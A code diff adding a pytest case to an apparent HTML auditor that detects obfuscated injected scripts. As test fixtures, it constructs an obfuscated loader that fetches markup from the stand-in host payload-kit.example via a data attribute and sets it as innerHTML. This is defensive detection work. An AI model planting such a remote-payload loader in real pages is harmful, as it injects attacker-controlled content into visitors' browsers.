@@ -1375,3 +1375,41 @@ def test_a_themes_library_loading_its_next_posts_is_still_its_own(audit_html: Au
     assert expected
     assert [f.severity for f in audit_html(page_far, url=url).findings
             if f.kind == "obfuscated-script"] == expected
+
+
+@pytest.mark.parametrize(("markup", "script_attrs", "vouched"), [
+    # the address in a `data-` attribute the injector also writes into the markup
+    ("<div class='harbourline-block' data-feed='https://payload-kit.example/p'></div>", "",
+     False),
+    # the address on the script element itself, read through document.currentScript
+    (THEME_MARKUP, " data-feed='https://payload-kit.example/p'", False),
+    # the scheme in capitals, or left out (`//host/…`)
+    ("<div class='harbourline-block' data-feed=' HTTPS://Payload-Kit.example/p'></div>", "",
+     False),
+    ("<div class='harbourline-block' data-feed='//payload-kit.example/p'></div>", "", False),
+    # the site's own address handed so, or another site's in an attribute the code never
+    # reads: the theme's library loading its next posts, vouched for as before
+    ("<div class='harbourline-block' data-feed='https://harbour.example/page/2'></div>", "",
+     True),
+    ("<div class='harbourline-block' data-feed='/page/2' "
+     "data-share='https://social-kit.example/s'></div>", "", True),
+], ids=["data attribute", "own script's attribute", "capitals", "no scheme", "own address",
+        "attribute not read"])
+def test_a_library_fetching_an_address_the_markup_hands_it_is_not_vouched_for(
+        audit_html: AuditHtml, markup: str, script_attrs: str, vouched: bool) -> None:
+    """The build's vouching holds for a request whose address the page's own code points it
+    at; an injector in a plugin folder that writes another site's address into a `data-`
+    attribute (of the markup, or of its own script tag) and requests it from code that
+    names no address is no theme library: the request's answer set as markup is the payload."""
+    words = [*THEME_WORDS, "querySelector", "[data-feed]", "getAttribute", "data-feed",
+             "fetch", "then", "text", "innerHTML", "currentScript"]
+    n = len(THEME_WORDS)
+    more = (f"var e=document[{_at(n + 9)}]||document[{_at(n)}]({_at(n + 1)}),b=document["
+            f"{_at(n)}]('.harbourline-block');w[{_at(n + 4)}](e[{_at(n + 2)}]({_at(n + 3)}))"
+            f"[{_at(n + 5)}](function(r){{return r[{_at(n + 6)}]()}})[{_at(n + 5)}]("
+            f"function(t){{b[{_at(n + 7)}]=t}});")
+    code = obfuscated(words, THEME_LIBRARY + more)
+    html = page(head=THEME_BUILD + f"<script{script_attrs}>{code}</script>", body=markup)
+    report = audit_html(html, url=URL.replace("news.example", "harbour.example"))
+    found = [f.severity for f in report.findings if f.kind == "obfuscated-script"]
+    assert found == ([] if vouched else [M]), report.findings
